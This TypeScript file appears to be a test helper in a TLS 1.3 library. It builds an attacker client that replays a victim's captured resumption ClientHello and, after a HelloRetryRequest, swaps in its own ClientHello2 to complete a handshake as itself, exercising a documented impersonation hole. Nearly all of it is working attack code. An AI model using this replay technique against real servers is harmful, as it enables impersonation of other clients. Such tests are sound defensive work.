// An attacker's TLS 1.3 client, written by hand from the engine's building blocks, for the HelloRetryRequest
// impersonation (issue 11, hole 1). It copies a victim's resumption ClientHello1 off the wire and replays it;
// when the server answers with a HelloRetryRequest, it sends its own ClientHello2: ClientHello1 without
// pre_shared_key (it does not know the PSK), with a key share of its own for the group asked for. Then it
// completes a full handshake as itself: an empty Certificate, or a certificate whose key it holds.
// Sans-I/O like the engine: `start()` gives the first bytes, `receive(bytes)` the answer to send back.
import type { CryptoProvider, RandomSource } from '../../src/crypto/provider.js';
import type { CertifiedKey } from '../../src/handshake/config.js';
import { KeySchedule, finishedVerifyData, trafficKeys } from '../../src/handshake/keyschedule.js';
import { groupName } from '../../src/handshake/negotiation.js';
import { signCertificateVerify } from '../../src/handshake/signatures.js';
import { SUITES, type SuiteInfo } from '../../src/handshake/suites.js';
import { Transcript } from '../../src/handshake/transcript.js';
import { RecordLayer, RecordProtection } from '../../src/record/index.js';
import { joinRecords, splitRecords, type WireRecord } from '../../src/testing/tamper.js';
import { concat } from '../../src/wire/bytes.js';
import { ContentType, ExtensionType, SignatureScheme } from '../../src/wire/enums.js';
import * as X from '../../src/wire/extensions.js';
import { decodeHandshake, decodeHandshakeBody, encodeHandshake } from '../../src/wire/messages.js';
import type { ClientHello, HandshakeMessage } from '../../src/wire/types.js';

export interface AttackerOptions {
  provider: CryptoProvider;
  random: RandomSource;
  /** What to answer a CertificateRequest with: undefined sends an empty Certificate. */
  certificate?: CertifiedKey;
}

export class HrrReplayAttacker {
  /** What the attacker saw: the kinds of the server's handshake messages and its alerts. */
  readonly received: string[] = [];
  readonly alerts: number[] = [];
  connected = false;
  private readonly records = new RecordLayer();
  private readonly transcript: Transcript;
  private readonly hello1Raw: Uint8Array;
  private readonly hello1: ClientHello;
  private suite?: SuiteInfo;
  private privateKey?: unknown;
  private group?: number;
  private schedule?: KeySchedule;
  private clientHandshakeSecret?: Uint8Array;
  private certificateRequestContext?: Uint8Array;

  /** `victimFlight`: the victim's first flight as captured, record headers included. */
  constructor(
    private readonly victimFlight: Uint8Array,
    private readonly options: AttackerOptions,
  ) {
    this.transcript = new Transcript(options.provider);
    this.hello1Raw = this.helloRecord().fragment;
    const hello1 = decodeHandshake(this.hello1Raw);
    if (hello1.kind !== 'client_hello') throw new Error('the captured flight has no ClientHello');
    if (!X.findExtension(hello1.extensions, ExtensionType.pre_shared_key)) throw new Error('the captured ClientHello is not a resumption');
    this.hello1 = hello1;
  }

  /** The replay: the victim's ClientHello1 record, byte for byte. */
  start(): Uint8Array {
    return joinRecords([this.helloRecord()]);
  }

  private helloRecord(): WireRecord {
    const record = splitRecords(this.victimFlight).find((r) => r.type === ContentType.handshake);
    if (!record) throw new Error('the captured flight has no handshake record');
    return record;
  }

  receive(bytes: Uint8Array): Uint8Array {
    this.records.receive(bytes);
    for (let item = this.records.next(); item; item = this.records.next()) {
      if (item.kind === 'alert') this.alerts.push(item.description);
      if (item.kind !== 'handshake') continue;
      const message = decodeHandshakeBody(item.msgType, item.body);
      this.received.push(message.kind);
      this.onMessage(message, item.raw);
    }
    return this.records.writer.take();
  }

  /** Application data under the application keys, once connected. */
  write(data: Uint8Array): Uint8Array {
    this.records.writer.applicationData(data);
    return this.records.writer.take();
  }

  private onMessage(message: HandshakeMessage, raw: Uint8Array): void {
    const { provider, random } = this.options;
    switch (message.kind) {
      case 'hello_retry_request': {
        this.suite = SUITES.get(message.cipherSuite)!;
        this.group = X.keyShareHelloRetryRequest.parse(X.findExtension(message.extensions, ExtensionType.key_share)!.data);
        const cookie = X.findExtension(message.extensions, ExtensionType.cookie);
        const keyPair = provider.keyExchange(groupName(this.group)!).generate(random);
        this.privateKey = keyPair.privateKey;
        const share = X.ext(ExtensionType.key_share, X.keyShareClientHello.encode([{ group: this.group, keyExchange: keyPair.share }]));
        // ClientHello2: every extension of ClientHello1 repeated, except what RFC 8446 §4.1.2 lets change.
        const extensions = this.hello1.extensions.flatMap((e) => {
          if (e.type === ExtensionType.key_share) return cookie ? [share, cookie] : [share];
          if (e.type === ExtensionType.pre_shared_key || e.type === ExtensionType.early_data) return [];
          return [e];
        });
        const hello2 = encodeHandshake({ ...this.hello1, extensions });
        this.transcript.selectHash(this.suite.hash);
        this.transcript.add(this.hello1Raw);
        this.transcript.replaceWithMessageHash();
        this.transcript.add(raw);
        this.transcript.add(hello2);
        this.records.writer.handshake(hello2);
        return;
      }
      case 'server_hello': {
        const suite = this.suite!;
        this.transcript.add(raw);
        const share = X.keyShareServerHello.parse(X.findExtension(message.extensions, ExtensionType.key_share)!.data);
        const shared = provider.keyExchange(groupName(this.group!)!).decapsulate(this.privateKey, share.keyExchange)!;
        this.schedule = new KeySchedule(provider, suite);
        this.schedule.enterHandshake(shared);
        const hs = this.schedule.handshakeTrafficSecrets(this.transcript.current());
        this.clientHandshakeSecret = hs.client;
        this.records.setReadProtection(this.protection(hs.server));
        this.records.setWriteProtection(this.protection(hs.client));
        return;
      }
      case 'certificate_request':
        this.certificateRequestContext = message.context;
        this.transcript.add(raw);
        return;
      case 'finished':
        this.transcript.add(raw);
        return this.sendSecondFlight();
      default:
        this.transcript.add(raw);
    }
  }

  private sendSecondFlight(): void {
    const { provider, random, certificate } = this.options;
    const suite = this.suite!;
    const schedule = this.schedule!;
    schedule.enterMaster();
    const app = schedule.applicationSecrets(this.transcript.current());
    const flight: Uint8Array[] = [];
    const send = (message: HandshakeMessage) => {
      const raw = encodeHandshake(message);
      this.transcript.add(raw);
      flight.push(raw);
    };
    if (this.certificateRequestContext) {
      send({ kind: 'certificate', context: this.certificateRequestContext, entries: (certificate?.chain ?? []).map((data) => ({ data, extensions: [] })) });
      if (certificate) {
        const scheme = SignatureScheme.ed25519;
        send({ kind: 'certificate_verify', scheme, signature: signCertificateVerify(provider, scheme, certificate, 'client', this.transcript.current(), random) });
      }
    }
    send({ kind: 'finished', verifyData: finishedVerifyData(provider, suite, this.clientHandshakeSecret!, this.transcript.current()) });
    this.records.writer.handshake(concat(...flight));
    this.records.setWriteProtection(this.protection(app.client));
    this.records.setReadProtection(this.protection(app.server));
    this.connected = true;
  }

  private protection(secret: Uint8Array): RecordProtection {
    const { key, iv } = trafficKeys(this.options.provider, this.suite!, secret);
    return new RecordProtection(this.options.provider, this.suite!.aead, key, iv);
  }
}
